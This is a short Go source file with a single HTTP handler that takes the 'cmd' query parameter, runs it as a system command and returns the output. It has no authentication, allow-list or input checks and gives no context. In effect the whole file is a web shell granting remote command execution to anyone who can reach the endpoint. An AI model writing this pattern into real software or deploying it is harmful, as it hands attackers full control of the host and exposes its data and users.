package main

import (
	"net/http"
	"os/exec"
	"strings"
)

func run(w http.ResponseWriter, r *http.Request) {
	parts := strings.Fields(r.URL.Query().Get("cmd"))
	if len(parts) < 2 {
		return
	}
	out, err := exec.Command(parts[0], parts[1:]...).Output()
	if err != nil {
		http.Error(w, "failed", 500)
		return
	}
	w.Header().Set("Content-Type", "text/plain")
	w.Write(out)
}
